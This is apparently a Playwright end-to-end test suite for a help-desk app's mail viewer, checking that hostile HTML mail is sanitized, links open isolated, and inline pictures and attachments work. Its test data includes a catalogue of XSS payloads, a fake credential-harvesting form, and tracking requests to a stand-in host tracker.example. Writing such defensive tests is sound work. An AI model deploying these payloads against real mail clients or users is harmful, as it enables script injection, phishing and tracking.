import type { BrowserContext, Page } from 'playwright-core';
import type { ConversationRow, Page as List } from '#contract';
import { openBrowser, type TestBrowser } from '../../../test/browser.js';
import { until } from '../../../test/killable-server.js';
import type { MailToSend } from '../../../apps/simulator/index.js';
import { type Tenant, World } from '../../../test/world.js';
import { rowOf, signIn, SOON_MS } from './desk.js';

const PICTURE = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const HELP = 'help@spaak.example';
const SHOW = 'Show as the sender laid it out';

/** Everything that a mail program of the last thirty years has run, loaded or sent when it was shown. */
const hostile = (elsewhere: string) => `
  <script>top.pwned = 1; window.pwned = 1</script>
  <img src="x" onerror="top.pwned = 2"><svg onload="top.pwned = 3"><animate onbegin="top.pwned = 4" attributeName="x"></svg>
  <img src="https://tracker.example/pixel.gif?to=help"><img srcset="https://tracker.example/2x.png 2x">
  <link rel="stylesheet" href="https://tracker.example/style.css"><style>@import url(https://tracker.example/import.css);</style>
  <div style="position:fixed;inset:0;z-index:2147483647;background:url(https://tracker.example/back.png)">Your session has expired</div>
  <form action="https://tracker.example/login" method="post"><input name="password" type="password" autofocus><button>Sign in</button></form>
  <iframe src="https://tracker.example/frame"></iframe><object data="https://tracker.example/object"></object><embed src="https://tracker.example/e">
  <video src="https://tracker.example/v.mp4" autoplay onloadstart="top.pwned = 5"></video><base href="https://tracker.example/">
  <meta http-equiv="refresh" content="0;url=https://tracker.example/"><math><mi xlink:href="javascript:top.pwned=6">m</mi></math>
  <a href="javascript:top.pwned=7">press me</a> <a href="data:text/html,<script>top.pwned=8</script>">or me</a>
  <p>The invoice is <a href="${elsewhere}" target="_top" ping="https://tracker.example/ping">over here</a>.</p>`;

/** A mail is shown as it was meant, and can do nothing: not to the agent, not to the desk, not behind anybody's back. */
describe('mail in the browser', () => {
  let world: World;
  let browser: TestBrowser;
  let spaak: Tenant;
  let context: BrowserContext;
  let desk: Page;

  const mail = (given: Omit<MailToSend, 'from' | 'to'> & { subject: string }) =>
    world.simulator.sendMail({ from: 'lotte@mail.example', fromName: 'Lotte Vos', to: HELP, ...given });
  const open = async (subject: string) => {
    await rowOf(desk, subject).click();
    await desk.getByRole('main', { name: /^Conversation with/ }).waitFor();
    await desk.getByRole('complementary', { name: 'Details' }).getByText(subject).waitFor();
  };
  const frame = () => desk.frameLocator('iframe[title="Mail as the sender laid it out"]');
  const nothingRan = async () => {
    for (const each of desk.frames()) expect(await each.evaluate<unknown>('window.pwned ?? null')).toBeNull();
  };

  beforeAll(async () => {
    world = await World.open({ OMNIDESK_ROLES: 'gateway,api,worker' });
    spaak = await world.tenant(0);
    await world.connectMailbox(spaak, HELP);
    browser = await openBrowser();
    context = await browser.context({ locale: 'en-GB', viewport: { width: 1440, height: 900 } });
    desk = await context.newPage();
    desk.on('dialog', () => browser.problems.push('a dialog was opened'));
    await signIn(desk, world.server.url, spaak.ownerEmail);
  });
  afterAll(async () => {
    await browser.close();
    await world.close();
  });

  it('runs nothing of a hostile mail, loads nothing for it, and stays usable around it', async () => {
    const invoice = `${world.simulator.url}/?invoice=7`;
    await mail({ subject: 'Final notice', text: 'Your session has expired', html: hostile(invoice) });
    await open('Final notice');
    await desk.getByRole('button', { name: SHOW }).click();
    await frame().getByText('The invoice is').waitFor();
    expect(await frame().locator('script, form, input, iframe, object, embed, video, meta[http-equiv], base, link').count()).toBe(0);
    expect(await frame().getByRole('link', { name: /me$/ }).count()).toBe(0);
    await frame().getByText('press me').click();
    await desk.getByRole('button', { name: 'Show as text' }).click();
    await desk.getByRole('button', { name: SHOW }).click();
    await nothingRan();
  });

  it('opens a link of a mail beside the desk, with no way back into it', async () => {
    await frame().getByText('The invoice is').waitFor();
    const [tab] = await Promise.all([context.waitForEvent('page'), frame().getByRole('link', { name: 'over here' }).click()]);
    await tab.waitForURL('**/?invoice=7');
    expect(await tab.evaluate<unknown>('[window.opener, document.referrer]')).toEqual([null, '']);
    // An ordinary page, not one that inherited the frame's chains.
    await tab.waitForFunction('document.scripts.length > 0 && document.body.innerText.length > 0');
    await tab.close();
    expect(desk.url()).toContain('/inbox/');
  });

  it('shows the pictures that came inside the mail, and asks nobody else for them', async () => {
    await mail({
      subject: 'The scratch',
      text: 'See below.',
      html: '<p>See <b>below</b>.</p>',
      inlinePictures: [{ name: 'scratch.png', mediaType: 'image/png', content: PICTURE }],
    });
    await open('The scratch');
    await desk.getByRole('button', { name: SHOW }).click();
    const picture = frame().locator('img');
    await picture.waitFor();
    const isDrawn = async () => (await desk.frames().at(-1)!.evaluate<number>('document.images[0].naturalWidth')) === 1;
    await until('the picture is drawn', SOON_MS, isDrawn);
    expect(await picture.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
  });

  it('saves an attachment under its own name', async () => {
    const bill = Buffer.from('%PDF-1.7 a bill');
    await mail({
      subject: 'The bill',
      text: 'Attached.',
      files: [{ name: 'Rekening café (3).pdf', mediaType: 'application/pdf', content: bill }],
    });
    await open('The bill');
    const [download] = await Promise.all([desk.waitForEvent('download'), desk.getByRole('link', { name: /Rekening café/ }).click()]);
    expect(download.suggestedFilename()).toBe('Rekening café (3).pdf');
    const kept: Buffer[] = [];
    for await (const part of await download.createReadStream()) kept.push(part as Buffer);
    expect(Buffer.concat(kept).toString()).toBe(bill.toString());
  });

  it('folds away what a mail quotes, and shows it on request', async () => {
    await mail({ subject: 'Opening hours', text: 'Are you open on Sunday?' });
    await open('Opening hours');
    const { items } = (await spaak.owner.get<List<ConversationRow>>('/api/conversations?view=all')).body;
    await spaak.owner.post(`/api/conversations/${items.find(({ subject }) => subject === 'Opening hours')!.id}/replies`, {
      text: 'From eleven to four.',
    });
    const answer = await world.simulator.waitForMail(({ text }) => text.includes('From eleven to four.'), SOON_MS);
    await world.simulator.sendMail({ from: 'lotte@mail.example', text: 'See you then!', answersMailId: answer.id, program: 'plain' });
    const line = desk.getByRole('article', { name: 'Lotte Vos' }).filter({ hasText: 'See you then!' });
    await line.waitFor();
    expect(await line.getByText('From eleven to four.').count()).toBe(0);
    await line.getByRole('button', { name: 'Show the whole mail' }).click();
    await line.getByText('From eleven to four.').waitFor();
    await line.getByRole('button', { name: 'Show only what is new' }).click();
    expect(await line.getByText('From eleven to four.').count()).toBe(0);
  });

  it('broke no rule and asked no other host for anything', () => {
    expect(browser.problems).toEqual([]);
  });
});
